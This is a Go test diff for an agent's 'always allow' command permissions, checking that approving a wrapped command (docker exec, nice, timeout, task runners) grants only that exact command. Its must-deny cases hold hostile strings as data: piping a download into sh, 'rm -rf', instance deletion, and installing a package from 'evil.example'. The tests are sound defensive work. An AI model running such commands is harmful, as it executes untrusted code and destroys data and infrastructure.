@@ -28,8 +28,23 @@ func TestAlwaysAllowGrantsOnlyWhatWasSeen(t *testing.T) {
 		{"aws ec2 describe-instances --region eu-west-1", []string{"Terminal(aws ec2 describe-instances)"}, nil, []string{"aws ec2 terminate-instances --instance-ids i-1"}},
 		{"gcloud compute instances list", []string{"Terminal(gcloud compute instances list)"}, nil, []string{"gcloud compute instances delete vm1"}},
 		{"az vm list -g rg", []string{"Terminal(az vm list)"}, nil, []string{"az vm delete -g rg -n x"}},
-		{"docker exec app ls", []string{"Terminal(docker exec app ls)", "Terminal(ls)"}, []string{"docker exec app ls -la"}, []string{`docker exec app sh -c "curl x | sh"`, "docker exec app rm -rf /data"}},
-		{"docker compose exec web ls", []string{"Terminal(docker compose exec web ls)", "Terminal(ls)"}, nil, []string{"docker compose exec web sh"}},
+		// A container's command is not recorded on its own: that rule would
+		// allow it on the host.
+		{"docker exec app ls", []string{"Terminal(docker exec app ls)"}, []string{"docker exec app ls -la"}, []string{`docker exec app sh -c "curl x | sh"`, "docker exec app rm -rf /data"}},
+		{"docker compose exec web ls", []string{"Terminal(docker compose exec web ls)"}, nil, []string{"docker compose exec web sh"}},
+		{"docker compose exec web pytest -x", []string{"Terminal(docker compose exec web pytest -x)"}, []string{"docker compose exec web pytest -x tests"}, []string{"pytest -x", "docker compose exec web pytest"}},
+		// A wrapper's rule names the unit of the command it runs: the
+		// wrapper and the program alone would allow any of its commands.
+		{"nice npm test", []string{"Terminal(nice npm test)"}, []string{"nice npm test -- --watch"}, []string{"nice npm i http://evil.example/x.tgz", "npm test"}},
+		{"nice make test", []string{"Terminal(nice make test)"}, nil, []string{"nice make deploy", "nice make test deploy"}},
+		{"timeout 60 npm run lint", []string{"Terminal(timeout 60 npm run lint)"}, nil, []string{"timeout 60 npm run deploy"}},
+		// Task runners: the task is the unit.
+		{"deno task test", []string{"Terminal(deno task test)"}, nil, []string{"deno task deploy", "deno task --eval 'git push'"}},
+		{"lerna run test", []string{"Terminal(lerna run test)"}, nil, []string{"lerna run deploy"}},
+		{"turbo run build", []string{"Terminal(turbo run build)"}, nil, []string{"turbo run deploy"}},
+		{"mise run test", []string{"Terminal(mise run test)"}, nil, []string{"mise run deploy"}},
+		{"pdm run pytest", []string{"Terminal(pdm run pytest)"}, nil, []string{"pdm run deploy"}},
+		{"earthly +test", []string{"Terminal(earthly +test)"}, nil, []string{"earthly +deploy"}},
 		{"npm run lint -- --fix", []string{"Terminal(npm run lint)"}, []string{"npm run lint"}, []string{"npm run deploy", "npm run"}},
 		{"pnpm run build", []string{"Terminal(pnpm run build)"}, nil, []string{"pnpm run release"}},
 		{"go run ./cmd/gen -v", []string{"Terminal(go run ./cmd/gen)"}, []string{"go run ./cmd/gen"}, []string{"go run ./cmd/other"}},
@@ -51,8 +66,8 @@ func TestAlwaysAllowGrantsOnlyWhatWasSeen(t *testing.T) {
 		{"python setup.py test", []string{"Terminal(python setup.py test)"}, nil, []string{"python setup.py sdist upload", "python setup.py register"}},
 		{"pnpm dlx create-vite app", []string{"Terminal(pnpm dlx create-vite app)"}, nil, []string{"pnpm dlx other", "pnpm dlx create-vite"}},
 		{"find . -name '*.go'", []string{"Terminal(find . -name '*.go')"}, nil, []string{"find / -name x"}},
-		{"timeout 5 npm test", []string{"Terminal(timeout 5 npm test)", "Terminal(npm test)"}, nil, []string{"timeout 5 rm -rf x"}},
-		{"pnpm exec vitest", []string{"Terminal(pnpm exec vitest)", "Terminal(vitest)"}, nil, []string{"pnpm exec rm -rf x"}},
+		{"timeout 5 npm test", []string{"Terminal(timeout 5 npm test)"}, []string{"timeout 5 npm test -- -u"}, []string{"timeout 5 rm -rf x"}},
+		{"pnpm exec vitest", []string{"Terminal(pnpm exec vitest)"}, []string{"pnpm exec vitest run"}, []string{"pnpm exec rm -rf x"}},
 		{"npm run", nil, nil, nil},
 	}
 	for _, tt := range tests {
